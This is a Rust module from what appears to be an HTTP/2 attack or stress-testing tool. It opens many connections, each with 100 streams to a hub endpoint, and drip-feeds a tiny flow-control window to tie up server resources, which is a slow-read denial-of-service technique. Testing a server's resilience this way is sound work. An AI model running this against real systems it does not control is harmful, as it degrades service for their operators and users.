//! HTTP/2 streams with hardly any window.

use std::{io, time::Duration};

use tokio::{
    task::JoinSet,
    time::{interval, sleep},
};

use super::{attacker::Plan, frames::Frames};

/// Each connection has [`STREAMS`] streams of a topic that is published to. With a window of 1, 200 of them get one
/// more byte each second.
pub(super) fn start(plan: &Plan, tasks: &mut JoinSet<()>, window: u32) {
    for _ in 0..plan.connections {
        let plan = plan.clone();
        tasks.spawn(async move {
            loop {
                if let Err(error) = hold(&plan, window).await {
                    plan.tally.answer(error.to_string());
                }
                sleep(PAUSE).await;
            }
        });
    }
}

async fn hold(plan: &Plan, window: u32) -> io::Result<()> {
    let mut frames = Frames::open(plan.address, window).await?;
    frames.greeted().await?;
    let most = frames.most_streams.map_or("any number of".to_owned(), |most| most.to_string());
    plan.tally.answer(format!("allows {most} streams"));
    let mut streams = Vec::new();
    for _ in 0..STREAMS {
        plan.tally.request();
        streams.push(frames.get("/hub?topics=honest").await?);
    }
    let mut ticks = interval(Duration::from_millis(5));
    let mut turns = streams.iter().cycle();
    loop {
        ticks.tick().await;
        frames.catch_up().await?;
        if window > 0
            && let Some(stream) = turns.next()
        {
            frames.widen(*stream, window).await?;
        }
    }
}

/// How many streams a connection has.
pub(super) const STREAMS: usize = 100;

const PAUSE: Duration = Duration::from_millis(100);
